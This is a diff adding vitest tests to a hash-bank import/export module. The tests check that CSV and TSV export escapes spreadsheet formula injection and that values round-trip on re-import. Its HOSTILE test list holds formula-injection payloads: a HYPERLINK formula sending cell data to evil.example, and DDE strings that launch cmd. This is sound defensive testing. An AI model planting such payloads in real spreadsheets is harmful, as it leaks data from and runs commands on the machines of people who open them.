@@ -1,6 +1,11 @@
 import { describe, expect, test } from 'vitest';
 import {
+  delimitedHeader,
+  delimitedLine,
+  fromSpreadsheetSafe,
   parseHashList,
+  spreadsheetSafe,
+  type BankEntry,
   splitDelimited,
   textLines,
   type ImportRecord,
@@ -216,5 +221,86 @@ describe('StopNCII FetchHashes JSON', () => {
     );
     expect(records.filter((r) => r.kind === 'hash').map((r) => r.line)).toEqual([1, 3]);
     expect(records.at(-1)).toMatchObject({ kind: 'error', line: 4 });
+  });
+});
+
+/** The note of a hash record (what went wrong otherwise). */
+const noteOf = (r: ImportRecord) => (r.kind === 'hash' ? r.hash.note : JSON.stringify(r));
+
+describe('spreadsheet-safe CSV and TSV (issue 15, finding 5)', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+    "'=already quoted once",
+    "''+twice",
+    "'plain apostrophe",
+    '  leading spaces kept',
+    'trailing spaces kept  ',
+    'a normal note, with a comma',
+  ];
+
+  function entry(id: number, text: string): BankEntry {
+    return {
+      id,
+      bankId: 1,
+      signalType: 'pdq',
+      value: PDQ,
+      quality: 90,
+      classification: { industry: 'A1' },
+      provenance: { source: text, externalId: text, member: text },
+      reviewerCount: 2,
+      addedBy: 'test',
+      note: text,
+      disabled: false,
+      feedback: null,
+      createdAt: new Date(0),
+      updatedAt: new Date(0),
+    };
+  }
+
+  test('no exported text cell starts like a formula, in CSV or TSV', () => {
+    for (const delimiter of [',', '\t'] as const) {
+      for (const text of HOSTILE) {
+        const line = delimitedLine(entry(1, text), delimiter).replace(/\n$/, '');
+        const cells = splitDelimited(line, delimiter)!;
+        expect(cells.slice(0, 3)).toEqual(['pdq', PDQ, '90']); // hashes and numbers stay exact
+        for (const cell of cells)
+          expect(cell, `${JSON.stringify(text)} → ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+  });
+
+  test('export → import round-trips every text exactly (CSV), and as far as TSV can carry it', async () => {
+    const lines = HOSTILE.map((text, i) => delimitedLine(entry(i + 1, text), ','));
+    const records = await parse(delimitedHeader(',') + lines.join(''), 'csv');
+    expect(records.map(noteOf)).toEqual(HOSTILE);
+    expect(records.map((r) => (r.kind === 'hash' ? r.hash.provenance?.source : ''))).toEqual(HOSTILE);
+    // TSV has no quoting: a tab or line break in a text becomes a space, the rest round-trips.
+    const tsv = HOSTILE.map((text, i) => delimitedLine(entry(i + 1, text), '\t'));
+    const fromTsv = await parse(delimitedHeader('\t') + tsv.join(''), 'tsv');
+    expect(fromTsv.map(noteOf)).toEqual(HOSTILE.map((text) => text.replace(/[\t\r\n]/g, ' ')));
+  });
+
+  test('import keeps leading whitespace of text as data: "\\t=1+1" is not read as "=1+1"', async () => {
+    const records = await parse(
+      `signal_type,value,note\npdq,${PDQ},"\t=1+1"\nmd5, ${MD5} ,  spaced  \n`,
+      'csv',
+    );
+    expect(records.map((r) => (r.kind === 'hash' ? [r.hash.value, r.hash.note] : JSON.stringify(r)))).toEqual(
+      [
+        [PDQ, '\t=1+1'],
+        [MD5, '  spaced  '], // typed columns are still trimmed
+      ],
+    );
+  });
+
+  test('the escape is undone only where the exporter added it', () => {
+    for (const text of HOSTILE) expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
+    expect(spreadsheetSafe("'plain")).toBe("'plain");
+    expect(fromSpreadsheetSafe("'plain")).toBe("'plain");
   });
 });
